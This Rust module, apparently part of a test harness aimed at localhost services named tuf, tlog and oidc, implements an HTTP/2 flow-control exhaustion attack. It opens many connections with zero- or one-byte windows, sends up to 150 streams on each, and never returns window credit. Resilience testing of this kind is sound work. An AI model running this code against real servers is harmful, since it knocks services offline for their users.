//! Answers that their callers ask for and never read.

use http::Request;
use tokio::task::JoinSet;

use crate::world::Target;

pub(crate) async fn attack(target: &'static Target) {
    let mut connections = JoinSet::new();
    for stranger in 10..10 + CONNECTIONS {
        connections.spawn(connection(
            target,
            "tuf",
            "/targets/trusted_root.json",
            stranger,
        ));
        connections.spawn(connection(target, "tlog", "/", stranger));
        connections.spawn(connection(target, "oidc", "/assets/page.css", stranger));
    }
    while let Some(ended) = connections.join_next().await {
        ended.unwrap();
    }
}

/// It ends when the service has ended each of its streams.
pub(crate) async fn connection(target: &Target, service: &str, path: &'static str, stranger: u8) {
    // A window of one byte is worse than none: something of every answer was given to the connection.
    let window = u32::from(stranger % 2);
    let Ok((mut sender, connection)) = target.connect_h2(service, stranger, window).await else {
        return;
    };
    tokio::spawn(connection);
    let mut answers = JoinSet::new();
    for _ in 0..STREAMS {
        let request = Request::get(format!("http://localhost{path}"));
        let Ok((answer, _)) = sender.send_request(request.body(()).unwrap(), true) else {
            break;
        };
        answers.spawn(async move {
            let Ok(answer) = answer.await else {
                return;
            };
            let mut body = answer.into_body();
            // Without giving back what was read, the window stays closed: the end comes from the service.
            while let Some(Ok(_)) = body.data().await {}
        });
        match sender.clone().ready().await {
            Ok(ready) => sender = ready,
            Err(_) => break,
        }
    }
    while answers.join_next().await.is_some() {}
}

const CONNECTIONS: u8 = 12;
const STREAMS: usize = 150;
